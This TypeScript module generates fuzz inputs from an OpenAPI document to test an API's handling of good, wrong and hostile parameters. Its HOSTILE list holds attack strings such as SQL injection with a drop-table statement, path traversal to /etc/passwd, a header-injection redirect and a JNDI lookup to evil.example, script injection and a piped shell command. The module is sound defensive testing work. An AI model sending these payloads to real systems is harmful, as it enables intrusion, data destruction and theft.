/** Inputs generated from the OpenAPI document: good, wrong and hostile ones. */
import type { Contract, Parameter } from './contract.ts'

/** SQL, paths, headers, invalid numbers, and other input that confuses parsers. */
export const HOSTILE: readonly string[] = [
  "' or 1=1 --",
  "'; drop table marketdata.symbols; --",
  '1); select pg_sleep(10); --',
  '$1',
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '..\\..\\secrets.json',
  '.',
  '..',
  'latest.json',
  'a\r\nset-cookie: x=1',
  'a\nlocation: https://evil.example',
  '<script>alert(1)</script>',
  '\u0000',
  'BTCUSDT\u0000',
  '\ud800',
  '\u202eTDSUCTB',
  '１００',
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
  '{"$gt":""}',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9'.repeat(400),
  '0x10',
  '1_000',
  ' 1',
  '%',
  '%25%32%65',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '|cat /etc/passwd',
  'x'.repeat(10_000),
  '😀'.repeat(300),
]

const WRONG_TYPES: readonly string[] = ['abc!', 'true', '1.5', '', '[]', '-']

/** What the document itself offers of a parameter. */
export function goodValues({ schema }: Parameter): readonly string[] {
  if (schema.enum !== undefined) return schema.enum
  if (schema.type === 'boolean') return ['true', 'false']
  const numbers = [schema.minimum, schema.maximum, schema.example].filter(
    (one) => one !== undefined,
  )
  if (schema.type === 'integer') return numbers.length === 0 ? ['1'] : numbers.map(String)
  if (schema.type === 'number') return [String(schema.maximum ?? 1)]
  return schema.example === undefined ? [] : [String(schema.example)]
}

export function wrongTypes({ schema }: Parameter): readonly string[] {
  const is_free_text = schema.type === 'string' && schema.enum === undefined
  const fitting = { boolean: 'true', number: '1.5' }[schema.type ?? '']
  return is_free_text ? ['', '%', ' '] : WRONG_TYPES.filter((text) => text !== fitting)
}

export function outOfRange({ schema }: Parameter): readonly string[] {
  if (schema.type === 'integer' || schema.type === 'number') {
    const { minimum = 0, maximum } = schema
    return [
      String(minimum - 1),
      '-9007199254740993',
      String((maximum ?? Number.MAX_SAFE_INTEGER) + 1),
      '9'.repeat(20),
    ]
  }
  if (schema.enum !== undefined) {
    return [[...schema.enum, schema.enum[0]].join(','), schema.enum[0]!.toUpperCase()]
  }
  if (schema.format === 'date') return ['0000-00-00', '2024-13-01', '2024-02-30', '99999-01-01']
  return ['9'.repeat(20), 'A'.repeat(65), '9999-12-31T23:59:59Z', '-1']
}

export interface Question {
  readonly path: string
  /** Where it belongs in the document. */
  readonly pattern: string
}

/** A path of the document with these values; every path parameter has one that is not empty. */
export function questionOf(
  pattern: string,
  parameters: readonly Parameter[],
  values: Readonly<Record<string, string>>,
): Question {
  const path = pattern.replaceAll(/\{(\w+)\}/g, (_, name: string) => encode(values[name]!))
  const query = parameters.flatMap((one) => {
    const value = values[one.name]
    return one.in === 'query' && value !== undefined ? [`${one.name}=${encode(value)}`] : []
  })
  return { path: query.length === 0 ? path : `${path}?${query.join('&')}`, pattern }
}

/** As a browser would write it; half a surrogate pair, which none can write, as bytes. */
function encode(value: string): string {
  if (!value.isWellFormed()) return '%ED%A0%80'
  // URL parsing removes dot segments, except after an escaped slash.
  return encodeURIComponent(value === '.' || value === '..' ? `/${value}` : value)
}

/** The same numbers for the same seed (mulberry32). */
export function createRandom(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32
  }
}

/** A request in which each parameter is missing, good or bad. */
export function randomQuestion(paths: Contract['paths'], random: () => number): Question {
  const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)]!
  const [pattern, { get }] = pick(Object.entries(paths))
  const parameters = get.parameters ?? []
  const values: Record<string, string> = {}
  for (const one of parameters) {
    const is_path = one.in === 'path'
    if (!is_path && random() < (one.required === true ? 0.05 : 0.5)) continue
    const kind = random()
    const good = goodValues(one)
    const value =
      kind < 0.6 && good.length > 0
        ? pick(good)
        : kind < 0.7
          ? pick(wrongTypes(one))
          : kind < 0.8
            ? pick(outOfRange(one))
            : kind < 0.9
              ? pick(HOSTILE)
              : randomText(random)
    values[one.name] = is_path && value === '' ? 'x' : value
  }
  return questionOf(pattern, parameters, values)
}

function randomText(random: () => number): string {
  const length = 1 + Math.floor(random() * 40)
  return Array.from({ length }, () => String.fromCodePoint(1 + Math.floor(random() * 0x2fff))).join(
    '',
  )
}
